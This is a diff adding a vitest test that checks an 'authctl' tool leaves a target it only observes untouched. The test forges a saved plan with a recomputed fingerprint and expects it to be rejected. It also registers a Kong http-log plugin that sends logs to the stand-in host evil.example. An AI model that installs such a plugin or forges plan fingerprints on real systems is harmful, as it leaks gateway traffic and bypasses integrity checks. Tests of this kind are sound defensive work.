@@ -3,6 +3,7 @@ import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { createAuthctl, exitCodeOf } from 'authctl';
 import { describe, expect, it, onTestFinished } from 'vitest';
+import { digestOf } from '../../../src/core/saved-plan.ts';
 import { startUndoProxy } from '../../stack/undo-proxy.ts';
 import { blueprint, nobody, startTargets } from './targets.ts';
 
@@ -77,6 +78,33 @@ describe('manage: none', () => {
     const destroyed = await authctl.destroy(file, { approve: true });
     expect(destroyed.problems).toEqual([]);
     expect(destroyed.plan?.removals.map((change) => 'live' in change && change.live?.kind.split('.')[0]).filter((one) => one !== 'keycloak')).toEqual([]);
+    expect(writes).toEqual([]);
+  });
+
+  it('is kept by a saved plan, by accept, by a release of some things and by an inventory, too', async () => {
+    const { env, seen, writes } = await watched();
+    expect(exitCodeOf(await open(env).apply(resolve(blueprint), { approve: true }))).toBe(0);
+    const authctl = open(seen);
+    const [file, plans] = [looking(), directory()];
+    const [saved, managed, forged] = ['saved', 'managed', 'forged'].map((name) => join(plans, `${name}.plan`)) as [string, string, string];
+    const codes = async (report: ReturnType<typeof authctl.apply>): Promise<readonly string[]> => (await report).problems.map(({ code }) => code);
+    expect((await authctl.plan(file, { out: saved })).problems).toEqual([]);
+    expect(await codes(authctl.apply(saved, { approve: true }))).toEqual(['TARGET_ONLY_LOOKED_AT']);
+    // One of the same stack, made where it is managed, and put before the file that only looks.
+    const fresh = join(directory(), 'managed.yaml');
+    writeFileSync(fresh, `${readFileSync(blueprint, 'utf8')}\n`);
+    await open(env).plan(fresh, { out: managed });
+    const { fingerprint: _old, ...content } = JSON.parse(readFileSync(managed, 'utf8')) as { readonly blueprint: object; readonly fingerprint: string };
+    const other = { ...content, blueprint: { ...content.blueprint, file } };
+    writeFileSync(forged, JSON.stringify({ ...other, fingerprint: digestOf(other) }));
+    expect(['TARGET_ONLY_LOOKED_AT', 'SAVED_PLAN_CHANGED']).toContain((await codes(authctl.apply(forged, { approve: true })))[0]);
+    writeFileSync(fresh, readFileSync(file, 'utf8'));
+    expect(await codes(authctl.apply(managed, { approve: true }))).not.toEqual([]);
+    expect(await codes(authctl.release(file, { approve: true, only: ['kong.*'] }))).toEqual(['TARGET_ONLY_LOOKED_AT']);
+    await fetch(`${env['KONG_ADMIN_URL'] ?? ''}/plugins`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: 'http-log', config: { http_endpoint: 'http://evil.example:9/x' } }) });
+    expect((await authctl.accept(file, { reason: 'known' })).data?.accepted).toMatchObject([{ what: expect.stringMatching(/^kong\.plugin\//) as string }]);
+    expect(exitCodeOf(await authctl.drift(file))).toBe(0);
+    expect((await authctl.inventory(file)).data?.objects.length).toBeGreaterThan(0);
     expect(writes).toEqual([]);
   });
 });
